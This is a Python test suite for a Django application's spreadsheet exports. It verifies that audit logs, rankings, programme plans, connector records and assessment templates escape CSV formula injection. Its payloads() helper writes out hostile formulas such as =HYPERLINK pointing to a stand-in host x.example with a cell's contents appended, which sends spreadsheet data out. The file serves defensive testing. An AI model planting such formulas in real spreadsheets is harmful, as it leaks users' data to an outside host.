"""Every spreadsheet download escapes formula injection (OWASP "CSV injection").

Text beginning with ``= + - @`` (or a tab or carriage return) is planted through the real
actions into what each export writes — a unit group's name (audit log), a period's and a
group's name (ranking and score tables), a task's title and a KPI's name (programme
plan), a procedure's name from another system (connector records), an officer's comment
(assessment template) — and each file is downloaded through its page. In the file, no
cell is a formula and no text cell starts with a formula sign; the planted text is there,
escaped with an apostrophe (``xaso.core.spreadsheets``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from xaso.accounts.models import User
from xaso.accounts.tests.conftest import sign_in
from xaso.accounts.tests.factories import make_user
from xaso.assessments import actions as assessment_actions
from xaso.assessments import queries as assessment_queries
from xaso.assessments.models import ScopeKind, Submission
from xaso.assessments.tests.factories import approve, commune_framework, group_of, make_period
from xaso.connectors.tests.factories import dossier, load, make_source
from xaso.core.spreadsheets import FORMULA_START, restore_cell, safe_cell
from xaso.index.tabular import _text_cell
from xaso.programs import actions as programme_actions
from xaso.programs.tests.factories import make_participant, make_programme
from xaso.units import demo as units_demo
from xaso.units.actions import do_save_group
from xaso.units.models import Unit

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[\d.,]+$")


def payloads(tag: str) -> list[str]:
    """One hostile text per formula sign, each carrying a marker to find it by."""
    return [f'{p}HYPERLINK("http://x.example/?d="&A1,"{tag}{i}")' for i, p in enumerate(PREFIXES)]


def marker(payload: str) -> str:
    return payload.rsplit('"', 2)[-2]


def cells(content: bytes, kind: str) -> Iterator[tuple[Any, bool]]:
    """(value, is_formula) of every cell of a CSV or XLSX download."""
    if kind == "csv":
        text = content.decode("utf-8-sig")
        delimiter = (
            ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
        )
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from ((v, False) for v in row)
        return
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell.value, cell.data_type == "f"


def assert_escaped(content: bytes, kind: str, markers: list[str]) -> None:
    seen = []
    for value, formula in cells(content, kind):
        assert not formula, f"a formula cell in the {kind}: {value!r}"
        if isinstance(value, str):
            seen.append(value)
            if not NUMBER.match(value):
                assert not value.startswith(FORMULA_START), f"unescaped {kind} cell {value!r}"
    text = "\n".join(seen)
    missing = [m for m in markers if m not in text]
    assert not missing, f"the planted text did not reach the {kind}: {missing}"


def test_the_shared_helper() -> None:
    for bad in payloads("x"):
        assert safe_cell(bad) == "'" + bad and restore_cell(safe_cell(bad)) == bad
        assert _text_cell(bad) == safe_cell(bad)  # the pure scoring package's own copy
    assert safe_cell("Xã Hòa Phú") == "Xã Hòa Phú" and safe_cell(-1.5) == -1.5
    assert restore_cell("'bình thường") == "'bình thường"


@pytest.fixture(autouse=True)
def _fast(settings: Any, tmp_path: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def admin(dak_lak: Unit) -> User:
    return make_user(role="province_admin", units=[dak_lak], username="admin.fx")


def test_audit_log_exports(admin: User, dak_lak: Unit, hoa_phu: Unit) -> None:
    names = payloads("AUDIT")
    for i, name in enumerate(names):
        do_save_group(slug=f"nhom-fx-{i}", name=name, description=name, province=dak_lak,
                      members=[hoa_phu], actor=admin)  # fmt: skip
    client = sign_in(Client(), admin)
    for kind in ("csv", "xlsx"):
        response = client.get(reverse("accounts:audit_export", args=[kind]))
        assert response.status_code == 200
        assert_escaped(response.content, kind, [marker(n) for n in names])


def test_results_exports(admin: User, dak_lak: Unit, hoa_phu: Unit) -> None:
    officer = make_user(role="commune_officer", units=[hoa_phu])
    verifier = make_user(role="verifier", units=[dak_lak])
    framework = commune_framework()
    now = timezone.now()
    names = payloads("RANK")
    period = assessment_actions.do_create_period(
        framework=framework, province=dak_lak, name=names[0], year=2025,
        starts_on=dt.date(2025, 1, 1), ends_on=dt.date(2025, 12, 31),
        opens_at=now - dt.timedelta(days=1), closes_at=now + dt.timedelta(days=30),
        scope_kind=ScopeKind.GROUP, scope_group=group_of(dak_lak, [hoa_phu]), actor=None,
    )  # fmt: skip
    for i, name in enumerate(names[1:], start=1):  # groups the ranking lists the unit in
        do_save_group(slug=f"nhom-xh-{i}", name=name, description="", province=dak_lak,
                      members=[hoa_phu], actor=admin)  # fmt: skip
    submission = Submission.objects.get(period=period, unit=hoa_phu)
    approve(submission, officer=officer, verifier=verifier, admin=admin)
    assessment_actions.do_publish_period(period=period, actor=admin)
    client = Client()
    for url, kind, markers in (
        (reverse("results:ranking_csv", args=[period.pk]), "csv", names[1:]),
        (reverse("results:ranking_xlsx", args=[period.pk]), "xlsx", names),
        (reverse("results:scores_xlsx", args=[period.pk]), "xlsx", names[:1]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content, kind, [marker(m) for m in markers])


def test_programme_plan_export(admin: User, dak_lak: Unit, hoa_phu: Unit) -> None:
    programme = make_programme(dak_lak)
    participant = make_participant(programme, hoa_phu)
    titles = payloads("PLAN")
    for title in titles:
        programme_actions.do_add_task(
            participant, title=title, owner_kind="commune", starts_on=dt.date(2025, 1, 1),
            due_on=dt.date(2025, 6, 30), description=title, actor=admin,
        )  # fmt: skip
        programme_actions.do_add_kpi(
            participant, name=title, baseline=10, baseline_on=dt.date(2025, 1, 1),
            baseline_source=title, target=50, target_on=dt.date(2025, 12, 31), actor=admin,
        )  # fmt: skip
    response = sign_in(Client(), admin).get(reverse("programs:plan_export", args=[programme.pk]))
    assert response.status_code == 200
    assert_escaped(response.content, "xlsx", [marker(t) for t in titles])


def test_connector_record_exports(thai_nguyen: Unit) -> None:
    legacy = units_demo.legacy_commune("Bắc Kạn", "Bắc Kạn", "Sông Cầu")
    commune = units_demo.main_successor(legacy)
    names = payloads("DOSS")
    load(make_source(thai_nguyen, "mot-cua"), "dossier", [
        dossier(f"FX{i}", legacy.code, "2025-03-01 08:00", procedure_name=name,
                procedure_code=name[:1] + f"TT{i}")
        for i, name in enumerate(names)
    ], filename="mot-cua.csv")  # fmt: skip
    client = sign_in(Client(), make_user(role="commune_officer", units=[commune]))
    base = reverse("connectors:drill", args=[commune.pk, "dossiers.full_online_share"])
    for kind in ("csv", "xlsx"):
        response = client.get(f"{base}?tu=2025-01-01&den=2025-12-31&xuat={kind}")
        assert response.status_code == 200
        assert_escaped(response.content, kind, [marker(n) for n in names])


def test_assessment_template_export(dak_lak: Unit, hoa_phu: Unit) -> None:
    officer = make_user(role="commune_officer", units=[hoa_phu])
    period = make_period(dak_lak, [hoa_phu])
    submission = Submission.objects.get(period=period, unit=hoa_phu)
    codes = [leaf.code for leaf in assessment_queries.framework_of(period).leaves]
    comments = dict(zip(codes, payloads("NOTE"), strict=False))
    assessment_actions.do_save_values(submission=submission, values={}, comments=comments,
                                      actor=officer)  # fmt: skip
    client = sign_in(Client(), officer)
    response = client.get(reverse("assessments:unit_template", args=[submission.pk]))
    assert response.status_code == 200
    assert_escaped(response.content, "xlsx", [marker(c) for c in comments.values()])
